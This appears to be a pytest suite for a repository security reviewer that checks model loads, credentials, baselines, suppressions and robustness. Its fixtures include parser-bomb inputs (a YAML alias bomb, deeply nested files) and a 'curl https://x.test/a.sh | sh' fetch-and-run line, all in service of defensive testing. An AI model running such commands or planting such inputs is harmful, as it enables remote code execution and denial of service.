"""A folder becomes a review: deterministic, quiet, and safe on hostile trees."""

from __future__ import annotations

import datetime
import os
import random
import string
import subprocess
import sys
from pathlib import Path

import pytest

from aegis.base.finding import Certainty, Severity
from aegis.base.report.fingerprint import fingerprints
from aegis.review.documents.tree import Limits
from aegis.review.engine import MAX_QUESTIONS, Options, review_repository
from aegis.review.report.json_report import baseline, json_report, read_baseline
from aegis.review.rule import Profile

TODAY = datetime.date(2026, 11, 22)
APP = """\
from fastapi import FastAPI
from openai import OpenAI

app = FastAPI()
client = OpenAI()


@app.post("/chat")
def chat(question: str) -> str:
    return client.chat.completions.create(model="gpt-4o-2024-08-06", messages=[])
"""
LOADS = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("acme/m")\n'


def lay_out(root: Path, files: dict[str, str]) -> Path:
    for path, content in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content, encoding="utf-8")
    return root


def codes(root: Path, options: Options | None = None) -> list[str]:
    return [finding.code for finding in review_repository(root, options).findings]


def made_key() -> str:
    source = random.Random(7)  # noqa: S311 - test data, not a key
    body = "".join(source.choice(string.ascii_letters + string.digits) for _ in range(60))
    return "sk" + "-proj-" + body + "a7"


def test_one_fact_in_many_files_is_one_finding(tmp_path: Path) -> None:
    """Its worst place comes first, the others stand beside it."""
    lay_out(tmp_path, {f"worker_{number}/load.py": LOADS for number in range(5)})

    found = [each for each in review_repository(tmp_path).findings if each.code == "AEG201"]

    assert len(found) == 1
    assert len(found[0].also) == 4


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        pytest.param("serve/load.py", Severity.HIGH, id="production"),
        pytest.param("examples/load.py", Severity.LOW, id="example"),
        pytest.param("tests/test_load.py", Severity.INFO, id="test"),
    ],
)
def test_what_is_not_production_weighs_less(path: str, severity: Severity, tmp_path: Path) -> None:
    """Lowered, never dropped: the audit still shows it."""
    lay_out(tmp_path, {path: LOADS})

    review = review_repository(tmp_path, Options(profile=Profile.AUDIT))

    assert [each.severity for each in review.findings if each.code == "AEG201"] == [severity]


def test_a_stage_for_development_is_not_what_is_deployed(tmp_path: Path) -> None:
    """A development server in a stage that the image does not end in weighs little."""
    stages = "FROM python:3.12 AS dev\nCMD uvicorn main:app --reload\nFROM python:3.12 AS {name}\n"
    ends = "CMD uvicorn main:app --workers 2\n"
    lay_out(tmp_path, {"app.py": APP, "Dockerfile": stages.format(name="final") + ends})
    assert "AEG313" not in codes(tmp_path)

    lay_out(tmp_path, {"Dockerfile": stages.format(name="dev-server") + "CMD flask run\n"})
    assert "AEG313" in codes(tmp_path)


def test_questions_about_vendors_point_at_the_service(tmp_path: Path) -> None:
    """A client beside the routes comes before one that sorts first and serves nobody."""
    lay_out(
        tmp_path,
        {"a_try/ask.py": LOADS + "import openai\nopenai.OpenAI(timeout=9)\n", "web/app.py": APP},
    )

    review = review_repository(tmp_path, Options(ask_all=True))

    assert {each.span.path for each in review.questions if each.span} == {"web/app.py"}


def test_a_repository_without_a_model_hears_nothing_about_models(tmp_path: Path) -> None:
    """Absence is only worth a finding where something is served and asks a model."""
    lay_out(
        tmp_path,
        {
            "app.py": "from flask import Flask\napp = Flask(__name__)\n\n\n"
            "@app.get('/')\ndef index():\n    return 'hello'\n",
            "Dockerfile": "FROM python:3.12-slim\nUSER app\nCMD ['gunicorn', 'app:app']\n",
        },
    )

    assert codes(tmp_path) == []


def test_at_most_three_questions_are_asked(tmp_path: Path) -> None:
    """A reader answers three; the others are there on request."""
    lay_out(tmp_path, {"app.py": APP, "Dockerfile": "FROM python:3.12-slim\nUSER app\n"})

    few = review_repository(tmp_path, Options(profile=Profile.AUDIT))
    all_ = review_repository(tmp_path, Options(profile=Profile.AUDIT, ask_all=True))

    assert len(few.questions) == MAX_QUESTIONS < len(all_.questions)
    assert all(each.certainty is Certainty.ASK for each in all_.questions)


def test_two_runs_give_the_same_bytes(tmp_path: Path) -> None:
    """Whatever the order in which the file system lists, and in another process too."""
    lay_out(tmp_path, {"app.py": APP, "b/load.py": LOADS, "a/load.py": LOADS})
    here = json_report(review_repository(tmp_path))
    script = (
        "import sys, pathlib\n"
        "from aegis.review.engine import review_repository\n"
        "from aegis.review.report.json_report import json_report\n"
        "sys.stdout.write(json_report(review_repository(pathlib.Path(sys.argv[1]))))\n"
    )
    path = os.pathsep.join(filter(None, sys.path))
    there = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        check=True,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": path, "PYTHONHASHSEED": "99"},
    ).stdout

    assert here == there == json_report(review_repository(tmp_path))


def test_no_secret_gets_into_any_output(tmp_path: Path) -> None:
    """Not into findings, excerpts of other rules on the same line, or the baseline."""
    key = made_key()
    lay_out(tmp_path, {"app.py": f'import openai\n\nclient = openai.OpenAI(api_key="{key}")\n'})

    review = review_repository(tmp_path, Options(profile=Profile.AUDIT, ask_all=True))

    assert "AEG251" in [finding.code for finding in review.findings]
    assert any(finding.code == "AEG340" for finding in review.findings)
    assert key[8:] not in json_report(review) + baseline(review)


def test_fingerprints_survive_moved_lines(tmp_path: Path) -> None:
    """A comment above changes no fingerprint, so a baseline stays good."""
    lay_out(tmp_path, {"serve.py": LOADS})
    before = review_repository(tmp_path)
    lay_out(tmp_path, {"serve.py": "# a comment\n\n\n" + LOADS})
    after = review_repository(tmp_path)

    assert list(fingerprints(before.findings)) == list(fingerprints(after.findings))
    assert before.findings[0].span != after.findings[0].span


def test_a_new_place_of_a_known_finding_is_new(tmp_path: Path) -> None:
    """Many places are one finding; the baseline knows each of them, and a second equal line."""
    load = "from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained('acme/chat')\n"
    (tmp_path / "a.py").write_text(load)
    known = read_baseline(baseline(review_repository(tmp_path)))
    (tmp_path / "b.py").write_text(load)
    (tmp_path / "a.py").write_text(f"# a comment\n{load}{load}")

    review = review_repository(tmp_path, Options(baseline=known, only=frozenset(("AEG201",))))

    (finding,) = review.findings
    assert [str(span) for span in (finding.span, *finding.also)] == ["a.py:7:35", "b.py:3:35"]


def test_a_change_shows_the_places_that_it_touches(tmp_path: Path) -> None:
    """The other places of the same finding are not this change's."""
    load = "from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained('acme/chat')\n"
    for name in ("a.py", "b.py"):
        (tmp_path / name).write_text(load)

    review = review_repository(
        tmp_path,
        Options(changed=frozenset(("b.py",)), only_changed=True, only=frozenset(("AEG201",))),
    )

    (finding,) = review.findings
    assert (str(finding.span), finding.also) == ("b.py:3:35", ())


def test_the_baseline_hides_what_is_known_and_shows_what_is_new(tmp_path: Path) -> None:
    """Known findings are counted, not lost."""
    lay_out(tmp_path, {"serve.py": LOADS})
    known = read_baseline(baseline(review_repository(tmp_path)))
    lay_out(tmp_path, {"app.py": APP})

    review = review_repository(tmp_path, Options(baseline=known))

    assert "AEG201" not in [finding.code for finding in review.findings]
    assert "AEG201" in [finding.code for finding in review.baselined]
    assert "AEG340" in [finding.code for finding in review.questions]


def test_a_change_can_be_judged_alone(tmp_path: Path) -> None:
    """Only what lies in a changed file is reported, so that a pull request is not flooded."""
    lay_out(tmp_path, {"old.py": "import joblib\nm = joblib.load('m')\n", "new.py": LOADS})
    options = Options(changed=frozenset(("new.py",)), only_changed=True)

    assert codes(tmp_path, options) == ["AEG201"]


# --- permissions -----------------------------------------------------------------------------


def test_a_comment_with_a_reason_sets_aside_its_line(tmp_path: Path) -> None:
    """The reason is kept and reported."""
    reason = "the mirror serves one commit"
    comment = f"# aegis: ignore[AEG201] {reason} until=2027-01-31"
    lay_out(tmp_path, {"serve.py": LOADS.replace('m")\n', f'm")  {comment}\n')})

    review = review_repository(tmp_path, Options(today=TODAY))

    assert review.findings == ()
    assert [(each.reason, each.kind) for each in review.suppressed] == [(reason, "comment")]


@pytest.mark.parametrize(
    ("comment", "expected"),
    [
        pytest.param("ignore[AEG201]", {"AEG201", "AEG803"}, id="no-reason"),
        pytest.param("ignore[AEG201] old until=2026-01-01", {"AEG201", "AEG803"}, id="ended"),
        pytest.param("ignore[AEG201] x until=soon", {"AEG201", "AEG803"}, id="not-a-date"),
        pytest.param("ignore[AEG306] wrong rule", {"AEG201", "AEG804"}, id="sets-nothing-aside"),
    ],
)
def test_a_bad_comment_is_a_finding(comment: str, expected: set[str], tmp_path: Path) -> None:
    """And what it names stays."""
    lay_out(tmp_path, {"serve.py": LOADS.replace('m")\n', f'm")  # aegis: {comment}\n')})

    assert set(codes(tmp_path, Options(today=TODAY))) == expected


def test_a_waiver_needs_owner_reason_and_end(tmp_path: Path) -> None:
    """With all three it holds for its paths, without one it is a finding."""
    waiver = "review:\n  waivers:\n    - rule: AEG201\n      paths: lab/*\n      reason: research\n"
    lay_out(tmp_path, {"lab/load.py": LOADS, "serve/load.py": LOADS})
    lay_out(tmp_path, {"aegis.yaml": waiver + "      owner: ml\n      until: 2027-01-31\n"})
    whole = review_repository(tmp_path, Options(today=TODAY))
    lay_out(tmp_path, {"aegis.yaml": waiver})
    partial = review_repository(tmp_path, Options(today=TODAY))

    assert [str(each.span) for each in whole.findings] == ["serve/load.py:2:31"]
    assert {each.code for each in partial.findings} == {"AEG201", "AEG803"}


def test_a_hard_rule_cannot_be_set_aside(tmp_path: Path) -> None:
    """A credential stays a finding, and the permission is one too."""
    text = f'KEY = "{made_key()}"  # aegis: ignore[AEG251] only for now\n'
    lay_out(tmp_path, {"settings.py": text})

    review = review_repository(tmp_path, Options(today=TODAY))

    assert {finding.code for finding in review.findings} == {"AEG251", "AEG804"}
    assert review.suppressed == ()


# --- hostile trees ---------------------------------------------------------------------------


def test_a_loop_of_links_is_not_entered(tmp_path: Path) -> None:
    """Links are not followed, inside or out."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "again").symlink_to(tmp_path)
    (tmp_path / "outside").symlink_to("/etc")
    lay_out(tmp_path, {"a/load.py": LOADS})

    assert review_repository(tmp_path).files == 1


def _bomb() -> str:
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    levels += [
        f"{new}: &{new} [{', '.join(f'*{old}' for _ in range(9))}]"
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    return "services: {}\n" + "\n".join(levels) + "\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("bomb.yaml", _bomb(), id="yaml-aliases"),
        pytest.param("deep.yaml", "services: " + "[" * 5000, id="yaml-flow-depth"),
        pytest.param("deep2.yaml", "services:\n " + "- " * 5000 + "x", id="yaml-block-depth"),
        pytest.param("self.yaml", "services: &a\n  b:\n    <<: *a\n", id="yaml-merges-itself"),
        pytest.param("deep.py", "import openai\nx = " + "(" * 2000 + ")" * 2000, id="python-depth"),
        pytest.param("minus.py", "import openai\nx = " + "-" * 20000 + "1", id="python-chain"),
        pytest.param("deep.ipynb", '{"a":' * 3000 + "openai" + "}" * 3000, id="json-depth"),
        pytest.param("Dockerfile", "FROM a AS b\nFROM b AS a\nFROM a\n", id="stages-in-a-circle"),
        pytest.param("Dockerfile", "RUN \\\n" * 3000, id="dockerfile-never-ends"),
        pytest.param("x.sh", "curl " + "a" * 90_000, id="long-command"),
        pytest.param("a.env", "PASSWORD=" * 9_000, id="repeated-anchor"),
    ],
)
def test_a_hostile_file_neither_hangs_nor_crashes(name: str, content: str, tmp_path: Path) -> None:
    """It ends in findings, or in being left out."""
    lay_out(tmp_path, {name: content, "serve.py": LOADS})

    assert "AEG201" in codes(tmp_path)


def test_what_is_too_large_is_named(tmp_path: Path) -> None:
    """Nothing is left out in silence."""
    lay_out(tmp_path, {"long.py": "x = '" + "a" * 5000 + "'\n", "big.py": "x = 1\n" * 5000})
    limits = Limits(file_size=20_000, line_length=1_000)

    review = review_repository(tmp_path, Options(limits=limits))

    assert [path for path, _ in review.skipped] == ["big.py", "long.py"]


def test_too_many_files_end_in_a_note(tmp_path: Path) -> None:
    """The first are read, in order of path."""
    lay_out(tmp_path, {f"{number:03}.py": "x = 1\n" for number in range(40)})

    review = review_repository(tmp_path, Options(limits=Limits(files=10)))

    assert review.files == 10
    assert review.skipped[0][0] == "010.py"


@pytest.mark.parametrize(
    "junk", [b"\xff\xfe\x00x", b"\xc3\x28 openai \xa0\xa1\n", b"", b"\r\r\n\x0b"]
)
def test_bytes_that_are_not_text_are_survived(junk: bytes, tmp_path: Path) -> None:
    """Under every name that has a reader."""
    for name in ("a.py", "b.yaml", "Dockerfile", "c.json", "d.ipynb", "e.sh", "f.pkl", "g.tf"):
        (tmp_path / name).write_bytes(junk)

    review_repository(tmp_path)


def test_a_file_is_not_a_folder(tmp_path: Path) -> None:
    """The caller made a mistake, and hears so."""
    lay_out(tmp_path, {"a.py": ""})

    with pytest.raises(NotADirectoryError):
        review_repository(tmp_path / "a.py")


def test_reviewing_opens_no_socket_and_starts_no_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Python's audit events would say so."""
    lay_out(tmp_path, {"app.py": APP, "run.sh": "curl https://x.test/a.sh | sh\n"})
    seen: list[str] = []
    watching = True

    def watch(event: str, _: object) -> None:
        if watching and event.startswith(("socket.", "subprocess.", "os.system", "os.exec")):
            seen.append(event)

    sys.addaudithook(watch)
    review_repository(tmp_path)
    watching = False
    monkeypatch.undo()

    assert seen == []
